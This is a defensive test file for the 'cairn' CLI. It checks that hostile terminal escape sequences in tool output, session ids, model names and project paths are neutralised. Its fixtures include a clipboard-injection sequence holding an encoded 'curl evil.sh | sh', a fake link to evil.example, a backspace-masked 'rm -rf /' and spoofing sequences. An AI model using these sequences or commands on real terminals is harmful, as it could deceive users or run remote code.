import { spawn } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { visible, visibleBytes, visibleLine } from "../../../src/core/terminal-text.ts";
import { CAIRN, REPO, runCairn, tempHome } from "../../helpers/cairn.ts";
import { COMMAND_HANG_MS } from "../../helpers/wait.ts";

// Tool output, session ids, project paths and model names are hostile input: printed
// to a terminal they must be seen, not obeyed. The pure module first, on real escape
// sequences; then `cairn show`, `status` and `monitor` on a real terminal (script(1)
// gives them a pty and records every byte they write to it).

const ESC = "\x1b";
/** Sequences a terminal acts on, one of each kind. */
const SEQUENCES = {
  colour: `${ESC}[31mred${ESC}[0m`,
  cursorUp: `${ESC}[2A`,
  cursorTo: `${ESC}[10;20H`,
  clearScreen: `${ESC}[2J`,
  clipboard: `${ESC}]52;c;${Buffer.from("curl evil.sh | sh").toString("base64")}${ESC}\\`,
  hyperlink: `${ESC}]8;;https://evil.example/${ESC}\\click me${ESC}]8;;${ESC}\\`,
  title: `${ESC}]0;PWNED-TITLE\x07`,
  c1Csi: "\u009b2J",
  c1Osc: "\u009d0;C1-TITLE\u009c",
  bidi: "filename\u202Etxt.exe",
  isolate: "\u2066hidden\u2069",
  backspace: "rm -rf /\b\b\b\b\b\b\b\bls -la   ",
  carriageReturn: "all tests passed\rFAILED: 3 tests",
  bell: "ding\x07",
  nul: "a\x00b",
  del: "a\x7fb",
} as const;

/** Anything a terminal would act on, except the line ending CRLF and tab. */
const CONTROLS =
  "\\x00-\\x08\\x0b-\\x0c\\x0e-\\x1f\\x7f-\\x9f\\u061c\\u200e\\u200f\\u2028\\u2029\\u202a-\\u202e\\u2066-\\u2069";
// Built from a string: a regular expression literal with control characters trips the linter.
const ACTIVE = new RegExp(`[${CONTROLS}]|\\r(?!\\n)`);

describe("visible(): controls shown as marks", () => {
  it("shows every kind of sequence visibly, with nothing left that a terminal acts on", () => {
    for (const [name, seq] of Object.entries(SEQUENCES)) {
      const v = visible(seq);
      expect(ACTIVE.test(v), `${name}: ${JSON.stringify(v)}`).toBe(false);
    }
    expect(visible(SEQUENCES.colour)).toBe("␛[31mred␛[0m");
    expect(visible(SEQUENCES.title)).toBe("␛]0;PWNED-TITLE␇");
    expect(visible(SEQUENCES.clearScreen)).toBe("␛[2J");
    expect(visible(SEQUENCES.c1Csi)).toBe("<U+009B>2J");
    expect(visible(SEQUENCES.bidi)).toBe("filename<U+202E>txt.exe");
    expect(visible(SEQUENCES.carriageReturn)).toBe("all tests passed␍FAILED: 3 tests");
    expect(visible(SEQUENCES.backspace)).toContain("rm -rf /␈␈");
    expect(visible(SEQUENCES.nul)).toBe("a␀b");
    expect(visible(SEQUENCES.del)).toBe("a␡b");
  });

  it("keeps text, tabs, newlines and CRLF line endings as they are", () => {
    const text = "line 1\tcol\nline 2\r\nünïcödé ✓ 日本語 🙂 (a ZWJ family: 👨‍👩‍👧)\n";
    expect(visible(text)).toBe(text);
  });

  it("for one line, also shows newlines, tabs and every CR", () => {
    expect(visibleLine("a\nb\tc\r\nd")).toBe("a␊b␉c␍␊d");
  });

  it("leaves no active character whatever the code point, and is stable when applied twice", () => {
    let all = "";
    for (let c = 0; c < 0x3000; c++) all += String.fromCharCode(c);
    const v = visible(all);
    expect(ACTIVE.test(v)).toBe(false);
    expect(visible(v)).toBe(v);
    expect(ACTIVE.test(visibleLine(all))).toBe(false);
  });

  it("decodes stored bytes as UTF-8: a raw 8-bit CSI byte becomes U+FFFD", () => {
    const bytes = Buffer.concat([Buffer.from("ok "), Buffer.from([0x9b]), Buffer.from("2J é\n")]);
    expect(visibleBytes(bytes)).toBe("ok \ufffd2J é\n");
    expect(visibleBytes(new Uint8Array(bytes.buffer, bytes.byteOffset + 3, 1))).toBe("\ufffd");
  });
});

// ---------------------------------------------------------------------------------------

const PAYLOAD = `${Object.entries(SEQUENCES)
  .map(([name, seq]) => `${name}: ${seq}`)
  .join("\n")}\n`;
/** Enough lines that the output is filed (compress.min_bytes is 4 KB). */
const TOOL_OUTPUT = `${"ordinary build output line\n".repeat(200)}${PAYLOAD}${"more output\n".repeat(50)}`;

const HOSTILE_SESSION = `sess${ESC}]0;SESSION-TITLE\x07${ESC}[2J-\u202Eid`;
const HOSTILE_MODEL = `claude${ESC}]52;c;cHduZWQ=\x07${ESC}[5A`;
/** A real directory whose name carries a title sequence and a screen clear. */
const PROJECT_NAME = `proj${ESC}]0;PROJECT-TITLE\x07${ESC}[2J`;

interface Capture {
  readonly code: number | null;
  readonly bytes: Buffer;
}

/** How long a command may run on the pty before it is killed (a hang) and the test fails with what it drew. */
const PTY_LIMIT_MS = COMMAND_HANG_MS;

/**
 * Runs cairn on a real pty: script(1) records exactly the bytes that reach the terminal.
 * `keys`, when given, are typed once `ready` has appeared in what reached the terminal:
 * the live monitor is quit the way a person quits it, not by a clock racing a busy machine.
 */
function onTerminal(
  args: string[],
  cwd: string,
  env: NodeJS.ProcessEnv,
  typed?: { readonly ready: string; readonly keys: string },
): Promise<Capture> {
  const q = (w: string) => `'${w.replace(/'/g, `'\\''`)}'`;
  const command = [process.execPath, CAIRN, ...args].map(q).join(" ");
  return new Promise((resolve, reject) => {
    const child = spawn("script", ["-qec", command, "/dev/null"], {
      cwd,
      env: { ...process.env, NO_COLOR: "1", TERM: "xterm-256color", COLUMNS: "120", LINES: "30", ...env },
      stdio: ["pipe", "pipe", "pipe"],
    });
    const out: Buffer[] = [];
    let typedYet = false;
    child.stdout.on("data", (c: Buffer) => {
      out.push(c);
      if (typed && !typedYet && Buffer.concat(out).includes(typed.ready)) {
        typedYet = true;
        child.stdin.end(typed.keys);
      }
    });
    child.stderr.resume();
    let killed = false;
    const timer = setTimeout(() => {
      killed = true;
      child.kill("SIGKILL");
    }, PTY_LIMIT_MS);
    child.on("error", reject);
    child.on("close", (code) => {
      clearTimeout(timer);
      const bytes = Buffer.concat(out);
      if (killed)
        reject(
          new Error(
            `cairn ${args.join(" ")} still running after ${PTY_LIMIT_MS} ms; it drew: ${JSON.stringify(bytes.toString("utf8").slice(-2000))}`,
          ),
        );
      else resolve({ code, bytes });
    });
    if (!typed) child.stdin.end();
  });
}

/** Characters a terminal acts on, in what reached it (CRLF is the pty's own line ending). */
function active(bytes: Buffer): string[] {
  const text = bytes.toString("utf8");
  const found = new Set<string>();
  const re = new RegExp(ACTIVE.source, "g");
  for (const m of text.matchAll(re)) found.add(JSON.stringify(m[0]));
  return [...found];
}

describe.skipIf(!existsSync("/usr/bin/script"))(
  "on a real terminal (script)",
  { timeout: PTY_LIMIT_MS + 10_000 },
  () => {
    let h: ReturnType<typeof tempHome>;
    let project = "";
    let env: NodeJS.ProcessEnv = {};

    beforeAll(async () => {
      h = tempHome("cairn-tty-");
      project = join(h.home, PROJECT_NAME);
      mkdirSync(join(project, ".git"), { recursive: true });
      env = { ...h.env, CLAUDE_PROJECT_DIR: project };
      const fixture = (name: string) =>
        JSON.parse(readFileSync(join(REPO, "test", "fixtures", "hook-inputs", `${name}.json`), "utf8"));
      const common = {
        session_id: HOSTILE_SESSION,
        cwd: project,
        transcript_path: join(h.home, "none.jsonl"),
      };
      const start = { ...fixture("SessionStart-startup"), ...common, model: HOSTILE_MODEL };
      const post = fixture("PostToolUse-Bash-small");
      post.tool_input = { command: `make ${ESC}]0;LABEL-TITLE\x07build`, description: "build" };
      post.tool_response = { ...post.tool_response, stdout: TOOL_OUTPUT };
      for (const e of [start, { ...post, ...common }]) {
        const r = await runCairn(["hook", e.hook_event_name], {
          input: JSON.stringify(e),
          env,
          cwd: project,
        });
        expect(r.code).toBe(0);
      }
      const listed = await runCairn(["show", "--json"], { env, cwd: project });
      expect(JSON.parse(listed.stdout)).toHaveLength(1);
    });
    afterAll(() => h.cleanup());

    it("cairn show, piped, returns the original byte for byte, escape sequences and all", async () => {
      const r = await runCairn(["show", "1"], { env, cwd: project });
      expect(r.code).toBe(0);
      expect(r.stdout).toBe(TOOL_OUTPUT);
      const raw = await runCairn(["show", "1", "--lines", "201-216"], { env, cwd: project });
      expect(raw.stdout).toBe(PAYLOAD);
    });

    it("cairn show on a terminal shows the sequences as marks; nothing reaches it that a terminal acts on", async () => {
      const r = await onTerminal(["show", "1"], project, env);
      expect(r.code).toBe(0);
      expect(active(r.bytes)).toEqual([]);
      const text = r.bytes.toString("utf8");
      expect(text).toContain("title: ␛]0;PWNED-TITLE␇");
      expect(text).toContain("clipboard: ␛]52;c;");
      expect(text).toContain("carriageReturn: all tests passed␍FAILED: 3 tests");
      expect(text).toContain("bidi: filename<U+202E>txt.exe");
      expect(text).toContain("c1Csi: <U+009B>2J");
      // Everything else is the original (the pty turns each LF into CRLF).
      expect(text.replace(/\r\n/g, "\n")).toBe(visible(TOOL_OUTPUT));
    });

    it("--lines, --grep, --info and the listing are neutralised on a terminal too", async () => {
      for (const args of [
        ["show", "1", "--lines", "200-220"],
        ["show", "1", "--grep", "title|clipboard|PWNED"],
        ["show", "1", "--info"],
        ["show"],
      ]) {
        const r = await onTerminal(args, project, env);
        expect(r.code, args.join(" ")).toBe(0);
        expect(active(r.bytes), args.join(" ")).toEqual([]);
      }
      const grep = await onTerminal(["show", "1", "--grep", "PWNED"], project, env);
      expect(grep.bytes.toString("utf8")).toMatch(/\d+: title: ␛\]0;PWNED-TITLE␇/);
      const info = await onTerminal(["show", "1", "--info"], project, env);
      expect(info.bytes.toString("utf8")).toContain("make ␛]0;LABEL-TITLE␇build");
    });

    it("--raw prints the original to a terminal; --visible neutralises it when piped", async () => {
      const raw = await onTerminal(["show", "1", "--raw"], project, env);
      expect(raw.bytes.includes(Buffer.from(`${ESC}]0;PWNED-TITLE\x07`))).toBe(true);
      const piped = await runCairn(["show", "1", "--visible"], { env, cwd: project });
      expect(piped.stdout).toBe(visible(TOOL_OUTPUT));
      const both = await runCairn(["show", "1", "--raw", "--visible"], { env, cwd: project });
      expect(both.code).toBe(2);
    });

    it("cairn status shows the hostile session id, project path and model as marks", async () => {
      const r = await onTerminal(["status"], project, env);
      expect(r.code).toBe(0);
      expect(active(r.bytes)).toEqual([]);
      const text = r.bytes.toString("utf8");
      expect(text).toContain("sess␛]0;SESSION-TITLE␇␛[2J-<U+202E>id");
      expect(text).toContain("proj␛]0;PROJECT-TITLE␇␛[2J");
      expect(text).toContain("claude␛]52;c;cHduZWQ=␇␛[5A");
      // Piped, the same: status promises no bytes, only what a person can read.
      const piped = await runCairn(["status"], { env, cwd: project });
      expect(ACTIVE.test(piped.stdout)).toBe(false);
    });

    it("cairn report shows the hostile session id, project path and model as marks", async () => {
      const r = await onTerminal(["report"], project, env);
      expect(r.code).toBe(0);
      expect(active(r.bytes)).toEqual([]);
      const text = r.bytes.toString("utf8");
      expect(text).toContain("sess␛]0;SESSION-TITLE␇␛[2J-<U+202E>id");
      expect(text).toContain("proj␛]0;PROJECT-TITLE␇␛[2J");
    });

    it("cairn state and the handoff preview show a notebook's escape sequences as marks on a terminal", async () => {
      // The agent writes the notebook from what tools showed it.
      mkdirSync(join(project, ".cairn"), { recursive: true });
      writeFileSync(
        join(project, ".cairn", "STATE.md"),
        "# STATE\n\n## Goal\nship \x1b]52;c;cHduZWQ=\x07 it\n\n## Now\nfix \x1b[2J the \u202e parser\n",
      );
      for (const args of [["state"], ["handoff"]]) {
        const r = await onTerminal(args, project, env);
        expect(r.code, args[0]).toBe(0);
        expect(active(r.bytes), args[0]).toEqual([]);
        expect(r.bytes.toString("utf8"), args[0]).toContain("ship ␛]52;c;cHduZWQ=␇ it");
      }
      // Piped, `cairn state` is the file as it is.
      const piped = await runCairn(["state"], { env, cwd: project });
      expect(piped.stdout).toContain("ship \x1b]52;c;cHduZWQ=\x07 it");
    });

    it("cairn monitor --once on a terminal: one frame, nothing active from the session", async () => {
      const r = await onTerminal(["monitor", "--once", "--all"], project, env);
      expect(r.code).toBe(0);
      expect(active(r.bytes)).toEqual([]);
      expect(r.bytes.toString("utf8")).toContain("sess␛]0;");
    });

    it("cairn monitor live: its own screen control only, none of the session's", async () => {
      // The live view draws with its own sequences (alternate screen, cursor home, clear to
      // end of line); the session's sequences must appear only as marks.
      // q is typed once a frame with the session's row is on screen.
      const r = await onTerminal(["monitor", "--all"], project, env, { ready: "sess␛]0; ", keys: "q" });
      expect(r.code).toBe(0);
      const text = r.bytes.toString("utf8");
      expect(text).toContain("\x1b[?1049h"); // it did run live
      expect(text.endsWith("\x1b[?25h\x1b[?1049l")).toBe(true); // and quit cleanly, screen restored
      // Its columns are narrow: the id's first 8 cells, the project's first 16.
      expect(text).toContain("sess␛]0; proj␛]0;PROJECT…");
      for (const payload of ["]0;SESSION-TITLE", "]0;PROJECT-TITLE", "]52;c;cHduZWQ=", "[5A"])
        expect(text.includes(`${ESC}${payload}`), payload).toBe(false);
      for (const ch of ["\x07", "\x08", "\u009b", "\u202e"])
        expect(text.includes(ch), JSON.stringify(ch)).toBe(false);
      // Nothing but cairn's own CSI sequences: no OSC (title, clipboard, link) at all.
      expect(text).not.toContain(`${ESC}]`);
    });
  },
);
